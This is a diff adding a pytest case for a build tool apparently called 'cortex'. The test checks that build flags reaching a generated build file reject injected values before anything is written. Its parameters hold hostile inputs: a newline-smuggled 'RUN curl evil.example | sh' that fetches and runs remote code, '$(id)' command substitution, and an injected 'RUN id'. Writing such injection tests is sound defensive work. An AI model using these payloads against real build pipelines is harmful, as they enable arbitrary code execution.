@@ -77,3 +77,25 @@ def test_the_schema_document_says_how_each_setting_reloads() -> None:
     assert document["$defs"]["Model"]["properties"]["preset"]["reload"] == "live"
     assert document["properties"]["version"]["reload"] == "inert"
     assert json.dumps(document).count('"reload": "') == len(settings()) + len(model_settings())
+
+
+@pytest.mark.parametrize(
+    ("flag", "value"),
+    [
+        ("--base-image", "debian\nRUN curl evil.example | sh"),
+        ("--builder-image", "debian:12 AS x"),
+        ("--tag", "cortex:$(id)"),
+        ("--platform", "linux/amd64\nRUN id"),
+    ],
+)
+def test_build_flags_that_reach_a_generated_file_are_checked_first(
+    flag: str, value: str, tmp_path: Path, cortex_command: list[str]
+) -> None:
+    cortexfile = tmp_path / "Cortexfile.yaml"
+    cortexfile.write_text("version: 1\nmodels: []\n", encoding="utf-8")
+    context = tmp_path / "context"
+    command = [*cortex_command, "build", "-f", str(cortexfile), "--context-only", "--context-dir", str(context)]
+    done = subprocess.run([*command, flag, value], capture_output=True, text=True, check=False, timeout=120)
+    assert done.returncode == 2, done.stderr
+    assert f"flag {flag}: {value!r} is not" in done.stderr
+    assert not context.exists()
